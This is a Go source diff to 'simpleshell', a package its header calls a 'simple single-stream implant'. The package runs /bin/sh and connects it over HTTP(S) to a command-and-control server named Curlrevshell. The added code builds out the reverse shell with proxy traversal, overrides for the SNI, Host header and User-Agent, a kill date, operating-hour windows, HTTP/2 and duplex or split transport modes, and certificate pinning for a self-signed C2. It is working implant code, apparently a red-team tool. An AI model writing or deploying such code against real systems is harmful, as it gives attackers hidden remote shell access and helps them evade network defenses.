@@ -6,10 +6,11 @@ package simpleshell
  * Simple single-stream implant
  * By J. Stuart McMurray
  * Created 20241003
- * Last Modified 20241013
+ * Last Modified 20261016
  */
 
 import (
+	"cmp"
 	"context"
 	"crypto/sha256"
 	"crypto/subtle"
@@ -18,9 +19,17 @@ import (
 	"encoding/base64"
 	"errors"
 	"fmt"
+	"io"
+	"net"
 	"net/http"
+	"net/url"
 	"os/exec"
 	"strings"
+	"sync"
+	"time"
+
+	"golang.org/x/net/http/httpproxy"
+	"golang.org/x/net/http2"
 )
 
 const (
@@ -29,14 +38,40 @@ const (
 	// DefaultShell is the path to the shell used if [GoSimple] is
 	// called with no args.
 	DefaultShell = "/bin/sh"
+	// DefaultDuplexTimeout is how long ModeAuto waits for a response if
+	// ConnConfig.DuplexTimeout isn't set.
+	DefaultDuplexTimeout = 10 * time.Second
+	// C2Param is the name of the header in which ConnConfig.C2Header is
+	// sent.
+	C2Param = "c2"
 )
 
+// errNoDuplexResponse indicates Curlrevshell didn't respond to a full-duplex
+// request in time, and ModeSplit should be tried.
+var errNoDuplexResponse = errors.New("no response to full-duplex request")
+
 // ErrNoMatchingCertificate indicates a TLS connection's peer did not present
 // a certificate matching a configured fingerprint.
 var ErrNoMatchingCertificate = errors.New(
 	"no certificate with correct fingerprint found",
 )
 
+// ErrUntrustedCertificate indicates the server's certificate couldn't be
+// verified the usual way.  This is normal for Curlrevshell's self-signed
+// certificate; set a Fingerprint or RootCAs.
+var ErrUntrustedCertificate = errors.New(
+	"certificate not trusted, self-signed certificates need a " +
+		"fingerprint or root CA",
+)
+
+// StatusError indicates Curlrevshell returned an HTTP status other than 200.
+type StatusError int
+
+// Error implements the error interface.
+func (err StatusError) Error() string {
+	return fmt.Sprintf("unexpected HTTP status %d", int(err))
+}
+
 // ConnConfig describes a connection between a Shell and Curlrevshell.
 type ConnConfig struct {
 	// C2 is where we find curlrevshell.  Its path should normaly be
@@ -45,10 +80,112 @@ type ConnConfig struct {
 
 	// Fingerprint is the Base64-encoded SHA256 hash of the server's TLS
 	// certificate, as normally passed to curl --pinnedpubkey.  The
-	// leading sha256// is optional.
+	// leading sha256// is optional.  Multiple fingerprints may be
+	// separated by semicolons, in which case any may match.  If
+	// Fingerprint is empty, the server's certificate is verified the
+	// usual way, which won't work with Curlrevshell's self-signed
+	// certificate unless it's in RootCAs.
 	Fingerprint string
+
+	// VerifyCA, if true, causes the server's certificate to be verified
+	// the usual way, against RootCAs, as well as against Fingerprint.
+	VerifyCA bool
+
+	// RootCAs, if set, is used instead of the system's CA certificates
+	// when verifying the server's certificate the usual way.
+	RootCAs *x509.CertPool
+
+	// Proxy is the URL of a proxy through which to connect to
+	// Curlrevshell, or ProxyNone to connect directly.  The http and https
+	// schemes use CONNECT, with basic auth if Proxy has a username and
+	// password.  The socks5 and socks5h schemes use SOCKS5, with socks5h
+	// resolving C2's hostname on the proxy.  If Proxy is empty,
+	// HTTPS_PROXY, HTTP_PROXY, and NO_PROXY are taken from the
+	// environment, as in [httpproxy.FromEnvironment].
+	Proxy string
+
+	// ProxyTimeout is how long to wait for Curlrevshell's response via a
+	// proxy before deciding the proxy is holding on to our request.  If
+	// unset, DefaultProxyTimeout is used.  ProxyTimeout is only used
+	// with ModeDuplex; ModeAuto uses DuplexTimeout instead.
+	ProxyTimeout time.Duration
+
+	// Mode is how we talk to Curlrevshell.  The zero value is
+	// equivalent to ModeAuto.
+	Mode Mode
+
+	// DuplexTimeout is how long ModeAuto waits for a response to its
+	// full-duplex request before trying ModeSplit.  If unset,
+	// DefaultDuplexTimeout is used.
+	DuplexTimeout time.Duration
+
+	// DialAddress, if set, is the host:port to which we connect instead
+	// of C2's host and port.  If it has no port, C2's port is used.  The
+	// SNI and Host header are still taken from C2 unless SNI or Host are
+	// set.
+	DialAddress string
+
+	// SNI, if set, is sent in the TLS handshake instead of C2's
+	// hostname.  Without a Fingerprint, it's also the name checked in
+	// Curlrevshell's certificate.
+	SNI string
+
+	// Host, if set, is sent in the HTTP Host header instead of C2's host.
+	Host string
+
+	// UserAgent, if set, is sent in the User-Agent header instead of Go's
+	// default.
+	UserAgent string
+
+	// Header holds extra HTTP headers to send.
+	Header http.Header
+
+	// C2Header, if set, is sent in a header named C2Param.  Curlrevshell
+	// uses it to work out where to tell shells to call back.
+	C2Header string
+
+	// HTTPVersion, if set, is HTTPVersion1 or HTTPVersion2 to only
+	// use HTTP/1.1 or HTTP/2.  If unset, HTTP/2 is used if Curlrevshell
+	// (or whatever's in front of it) supports it, and HTTP/1.1 otherwise.
+	// HTTP/2 with an http:// C2 means HTTP/2 without TLS.
+	HTTPVersion string
+
+	// KillDate, if set, is when we stop.  No connections are made at or
+	// after KillDate; [Go] and [GoPivot] return ErrKillDate and
+	// [GoReconnect] returns ErrKillDate instead of waiting.  Connected
+	// shells aren't disconnected.
+	KillDate time.Time
+
+	// Hours and Weekdays, if set, limit connecting to certain hours of
+	// the day (0-23) and days of the week, in the local time zone.
+	// Outside of them, [Go] and [GoPivot] return ErrOutsideWindow and
+	// [GoReconnect] waits.  Connected shells aren't disconnected.
+	Hours    []int
+	Weekdays []time.Weekday
 }
 
+// HTTP versions, for ConnConfig.HTTPVersion.
+const (
+	HTTPVersion1 = "1.1"
+	HTTPVersion2 = "2"
+)
+
+// Mode is a way to talk to Curlrevshell.
+type Mode string
+
+// Modes, for ConnConfig.Mode.
+const (
+	// ModeAuto tries ModeDuplex and falls back to ModeSplit if
+	// Curlrevshell doesn't respond within ConnConfig.DuplexTimeout.
+	ModeAuto Mode = "auto"
+	// ModeDuplex uses a single full-duplex request to C2.
+	ModeDuplex Mode = "duplex"
+	// ModeSplit uses one request for input and one for output, like
+	// Curlrevshell's default callback script.  C2's final IOPath is
+	// replaced with InputPath or OutputPath and a random ID.
+	ModeSplit Mode = "split"
+)
+
 // GoSimple is the simplest way to run a shell.  It wraps [CmdShell],
 // [ConnConfig], and [Go].  If args is empty or nil, []string{DefaultShell}
 // will be used.
@@ -66,64 +203,382 @@ func GoSimple(ctx context.Context, c2, fingerprint string, args []string) error
 	return Go(ctx, ConnConfig{C2: c2, Fingerprint: fingerprint}, shell)
 }
 
-// Go connects a Shell to Curlrevshell.
+// Go connects a Shell to Curlrevshell.  Cancelling ctx disconnects the Shell,
+// which is not considered an error.
 func Go(ctx context.Context, conf ConnConfig, shell Shell) error {
-	/* Roll an HTTP client. */
-	client := http.DefaultClient
-	/* Add fingerprint verification if we have it. */
+	_, err := goOnce(
+		ctx,
+		conf,
+		func() (Shell, error) { return shell, nil },
+	)
+	return err
+}
+
+// goOnce does what Go says it does, with the shell from newShell.  newShell
+// is only called once the shell's needed, and not at all if we can't connect.
+// connected is true if the shell was connected to Curlrevshell, regardless of
+// the returned error.
+func goOnce(
+	ctx context.Context,
+	conf ConnConfig,
+	newShell func() (Shell, error),
+) (connected bool, err error) {
+	/* Make sure we're allowed to connect. */
+	if err := conf.Allowed(time.Now()); nil != err {
+		return false, err
+	}
+
+	/* Roll an HTTP client.  It's only good for this connection. */
+	client, pu, err := newClient(conf)
+	if nil != err {
+		return false, err
+	}
+	defer client.CloseIdleConnections()
+
+	/* Self-signed certificates are common enough to warrant a hint. */
+	connected, err = goMode(ctx, conf, client, pu, newShell)
+	var uae x509.UnknownAuthorityError
+	if errors.As(err, &uae) {
+		err = fmt.Errorf("%w: %w", ErrUntrustedCertificate, err)
+	}
+	return connected, err
+}
+
+// goMode connects the shell from newShell to Curlrevshell using client in the
+// way requested by conf.Mode.
+func goMode(
+	ctx context.Context,
+	conf ConnConfig,
+	client *http.Client,
+	pu *url.URL,
+	newShell func() (Shell, error),
+) (connected bool, err error) {
+	switch conf.Mode {
+	case ModeDuplex:
+		var timeout time.Duration
+		if nil != pu {
+			timeout = cmp.Or(conf.ProxyTimeout, DefaultProxyTimeout)
+		}
+		return goDuplex(
+			ctx,
+			conf,
+			client,
+			pu,
+			newShell,
+			timeout,
+			ErrProxyNoResponse,
+		)
+	case ModeSplit:
+		return goSplit(ctx, conf, client, newShell)
+	case ModeAuto, "":
+		connected, err := goDuplex(
+			ctx,
+			conf,
+			client,
+			pu,
+			newShell,
+			cmp.Or(conf.DuplexTimeout, DefaultDuplexTimeout),
+			errNoDuplexResponse,
+		)
+		if !errors.Is(err, errNoDuplexResponse) {
+			return connected, err
+		}
+		return goSplit(ctx, conf, client, newShell)
+	default:
+		return false, fmt.Errorf("unknown mode %q", conf.Mode)
+	}
+}
+
+// goDuplex connects the shell from newShell to Curlrevshell with a single
+// full-duplex request.  newShell isn't called until Curlrevshell responds.
+// If timeout is nonzero and Curlrevshell doesn't respond in time, goDuplex
+// gives up and returns an error wrapping noResponse.
+func goDuplex(
+	ctx context.Context,
+	conf ConnConfig,
+	client *http.Client,
+	pu *url.URL,
+	newShell func() (Shell, error),
+	timeout time.Duration,
+	noResponse error,
+) (connected bool, err error) {
+	/* Make sure nobody sits on our request. */
+	rctx, cancel := context.WithCancelCause(ctx)
+	defer cancel(nil)
+	var timer *time.Timer
+	if 0 != timeout {
+		timer = time.AfterFunc(timeout, func() { cancel(noResponse) })
+	}
+
+	/* Connect to CRS.  We don't start sending output until Curlrevshell's
+	responded, in case we have to try again some other way. */
+	pr, pw := io.Pipe()
+	body := &closeNotifyReader{ReadCloser: pr, closed: make(chan struct{})}
+	defer context.AfterFunc(rctx, func() { pr.Close() })()
+	req, err := newRequest(rctx, conf, http.MethodPost, conf.C2, body)
+	if nil != err {
+		return false, fmt.Errorf("preparing request: %w", err)
+	}
+	res, err := client.Do(req)
+	if nil != timer && !timer.Stop() && nil == err {
+		/* Too late, rctx is already cancelled. */
+		res.Body.Close()
+		err = noResponse
+	}
+	if nil != err {
+		if errors.Is(context.Cause(rctx), noResponse) {
+			err = noResponse
+		}
+		var via string
+		if nil != pu {
+			via = " via " + pu.Redacted()
+		}
+		return false, fmt.Errorf(
+			"connecting to %s%s: %w",
+			conf.C2,
+			via,
+			err,
+		)
+	}
+	defer res.Body.Close()
+	if http.StatusOK != res.StatusCode {
+		return false, fmt.Errorf(
+			"connecting to %s: %w",
+			conf.C2,
+			StatusError(res.StatusCode),
+		)
+	}
+
+	/* Do shell things.  If we can't send output anymore, the shell
+	shouldn't wait for us to read it. */
+	shell, err := newShell()
+	if nil != err {
+		return false, err
+	}
+	go func() {
+		_, err := io.Copy(pw, shell.Output())
+		pw.CloseWithError(err)
+		if nil != err {
+			shell.Output().Close()
+		}
+	}()
+	shell.SetInput(res.Body)
+	if err := shell.Go(ctx); nil != err && nil == ctx.Err() {
+		return true, fmt.Errorf("running %s: %w", shell, err)
+	}
+
+	/* Give the last of the output a chance to make it out. */
+	select {
+	case <-body.closed:
+	case <-ctx.Done():
+	}
+
+	return true, nil
+}
+
+// newClient returns an HTTP client suitable for connecting to the C2 in conf,
+// as well as the URL of the proxy it uses, if any.
+func newClient(conf ConnConfig) (*http.Client, *url.URL, error) {
+	/* Work out the proxy ourselves, to make sure we always CONNECT. */
+	c2, err := url.Parse(conf.C2)
+	if nil != err {
+		return nil, nil, fmt.Errorf("parsing C2 URL: %w", err)
+	}
+	pu, err := proxyURL(conf, c2, httpproxy.FromEnvironment())
+	if nil != err {
+		return nil, nil, fmt.Errorf("choosing proxy: %w", err)
+	}
+
+	/* Work out how to connect. */
+	nd := &net.Dialer{
+		Timeout:   30 * time.Second,
+		KeepAlive: 30 * time.Second,
+	}
+	dial := dialFunc(nd.DialContext)
+	if nil != pu {
+		if dial, err = proxyDialer(pu, nd); nil != err {
+			return nil, nil, fmt.Errorf(
+				"setting up proxy %s: %w",
+				pu.Redacted(),
+				err,
+			)
+		}
+	}
+	if "" != conf.DialAddress {
+		da := conf.DialAddress
+		if _, _, err := net.SplitHostPort(da); nil != err {
+			da = net.JoinHostPort(da, cmp.Or(
+				c2.Port(),
+				map[string]string{"http": "80"}[c2.Scheme],
+				"443",
+			))
+		}
+		cdial := dial
+		dial = func(
+			ctx context.Context,
+			network string,
+			_ string,
+		) (net.Conn, error) {
+			return cdial(ctx, network, da)
+		}
+	}
+
+	/* TLS, with fingerprint verification if we've a fingerprint.  No
+	fingerprint means normal TLS, as does VerifyCA. */
+	tlsConf := &tls.Config{ServerName: conf.SNI, RootCAs: conf.RootCAs}
 	if "" != conf.Fingerprint {
 		vfp, err := TLSFingerprintVerifier(conf.Fingerprint)
 		if nil != err {
-			return fmt.Errorf(
+			return nil, nil, fmt.Errorf(
 				"setting up TLS fingerprint verification: %w",
 				err,
 			)
 		}
-		transport := http.DefaultTransport.(*http.Transport).Clone()
-		transport.TLSClientConfig = &tls.Config{
-			InsecureSkipVerify: true,
-			VerifyConnection:   vfp,
-		}
-		transport.ForceAttemptHTTP2 = true
-		client.Transport = transport
+		tlsConf.InsecureSkipVerify = !conf.VerifyCA
+		tlsConf.VerifyConnection = vfp
 	}
 
-	/* Connect to CRS. */
-	res, err := client.Post(conf.C2, "", shell.Output())
-	if nil != err {
-		return fmt.Errorf("connecting to %s: %w", conf.C2, err)
+	/* HTTP/2-only needs its own transport. */
+	switch conf.HTTPVersion {
+	case "", HTTPVersion1:
+	case HTTPVersion2:
+		return &http.Client{Transport: &http2.Transport{
+			TLSClientConfig: tlsConf,
+			AllowHTTP:       "http" == c2.Scheme,
+			DialTLSContext: func(
+				ctx context.Context,
+				network string,
+				addr string,
+				cfg *tls.Config,
+			) (net.Conn, error) {
+				if "http" == c2.Scheme {
+					cfg = nil /* h2c */
+				}
+				return dialHTTP2(ctx, dial, network, addr, cfg)
+			},
+		}}, pu, nil
+	default:
+		return nil, nil, fmt.Errorf(
+			"unknown HTTP version %q",
+			conf.HTTPVersion,
+		)
 	}
 
-	/* Do shell things. */
-	shell.SetInput(res.Body)
-	if err := shell.Go(ctx); nil != err {
-		return fmt.Errorf("running %s: %w", shell, err)
+	/* Normal transport, maybe without HTTP/2. */
+	transport := http.DefaultTransport.(*http.Transport).Clone()
+	transport.Proxy = nil
+	transport.DialContext = dial
+	transport.TLSClientConfig = tlsConf
+	transport.ForceAttemptHTTP2 = true
+	if HTTPVersion1 == conf.HTTPVersion {
+		transport.ForceAttemptHTTP2 = false
+		transport.TLSNextProto = make(map[string]func(
+			string,
+			*tls.Conn,
+		) http.RoundTripper)
 	}
+	return &http.Client{Transport: transport}, pu, nil
+}
+
+// dialHTTP2 uses dial to connect to addr for an HTTP/2-only client.  If cfg
+// is nil, no TLS is used.  Otherwise, dialHTTP2 makes sure the server speaks
+// HTTP/2.
+func dialHTTP2(
+	ctx context.Context,
+	dial dialFunc,
+	network string,
+	addr string,
+	cfg *tls.Config,
+) (net.Conn, error) {
+	c, err := dial(ctx, network, addr)
+	if nil != err {
+		return nil, err
+	}
+	if nil == cfg {
+		return c, nil
+	}
+	tc := tls.Client(c, cfg)
+	if err := tc.HandshakeContext(ctx); nil != err {
+		c.Close()
+		return nil, fmt.Errorf("TLS handshake: %w", err)
+	}
+	if http2.NextProtoTLS != tc.ConnectionState().NegotiatedProtocol {
+		tc.Close()
+		return nil, errors.New("server does not support HTTP/2")
+	}
+	return tc, nil
+}
 
-	return nil
+// newRequest is like [http.NewRequestWithContext], but also adds the Host,
+// UserAgent, Header, and C2Header from conf.
+func newRequest(
+	ctx context.Context,
+	conf ConnConfig,
+	method string,
+	u string,
+	body io.Reader,
+) (*http.Request, error) {
+	req, err := http.NewRequestWithContext(ctx, method, u, body)
+	if nil != err {
+		return nil, err
+	}
+	for k, vs := range conf.Header {
+		for _, v := range vs {
+			req.Header.Add(k, v)
+		}
+	}
+	if "" != conf.Host {
+		req.Host = conf.Host
+	}
+	if "" != conf.UserAgent {
+		req.Header.Set("User-Agent", conf.UserAgent)
+	}
+	if "" != conf.C2Header {
+		req.Header.Set(C2Param, conf.C2Header)
+	}
+	return req, nil
 }
 
 // TLSFingerprintVerifier returns a function which can be used for
 // [tls.Config.VerifyConnection].  It ensures the peer presents a certificate
-// with the given fingerprint, which must be a base64-encoded sha256 hash as
-// used by curl, with or without the leading sha256//.
+// with one of the given fingerprints, which must be base64-encoded sha256
+// hashes as used by curl, with or without the leading sha256//, separated by
+// semicolons.
 func TLSFingerprintVerifier(fp string) (
 	func(tls.ConnectionState) error,
 	error,
 ) {
-	/* Make sure the fingerprint looks correct. */
-	wantFP, err := base64.StdEncoding.DecodeString(
-		strings.TrimPrefix(fp, "sha256//"),
-	)
-	if nil != err {
-		return nil, fmt.Errorf("decoding fingerprint: %w", err)
+	/* Make sure the fingerprints look correct. */
+	var wantFPs [][]byte
+	for i, pin := range strings.Split(fp, ";") {
+		pin = strings.TrimSpace(pin)
+		if "" == pin {
+			continue
+		}
+		wantFP, err := base64.StdEncoding.DecodeString(
+			strings.TrimPrefix(pin, "sha256//"),
+		)
+		if nil != err {
+			return nil, fmt.Errorf(
+				"decoding fingerprint %d: %w",
+				i+1,
+				err,
+			)
+		}
+		if 32 != len(wantFP) {
+			return nil, fmt.Errorf(
+				"decoded fingerprint %d not 32 bytes",
+				i+1,
+			)
+		}
+		wantFPs = append(wantFPs, wantFP)
 	}
-	if 32 != len(wantFP) {
-		return nil, fmt.Errorf("decoded fingerprint not 32 bytes")
+	if 0 == len(wantFPs) {
+		return nil, errors.New("no fingerprints")
 	}
 
 	/* Return a function to check if any of the certs in
-	cs.PeerCertificates have the right hash. */
+	cs.PeerCertificates have one of the right hashes. */
 	return func(cs tls.ConnectionState) error {
 		/* Check ALL the certs. */
 		for i, cert := range cs.PeerCertificates {
@@ -140,14 +595,33 @@ func TLSFingerprintVerifier(fp string) (
 			h := sha256.Sum256(b)
 
 			/* See if it matches. */
-			if 1 == subtle.ConstantTimeCompare(wantFP, h[:]) {
-				return nil
+			for _, wantFP := range wantFPs {
+				if 1 == subtle.ConstantTimeCompare(
+					wantFP,
+					h[:],
+				) {
+					return nil
+				}
 			}
 		}
 		return ErrNoMatchingCertificate
 	}, nil
 }
 
+// closeNotifyReader wraps an io.ReadCloser and closes a channel when it's
+// closed.
+type closeNotifyReader struct {
+	io.ReadCloser
+	once   sync.Once
+	closed chan struct{}
+}
+
+// Close closes c's io.ReadCloser and then c.closed.
+func (c *closeNotifyReader) Close() error {
+	defer c.once.Do(func() { close(c.closed) })
+	return c.ReadCloser.Close()
+}
+
 // SplitArgs splits s into a slice of strings using the first rune in s as the
 // separator.  Runs of empty elements are not compressed.
 func SplitArgs(s string) []string {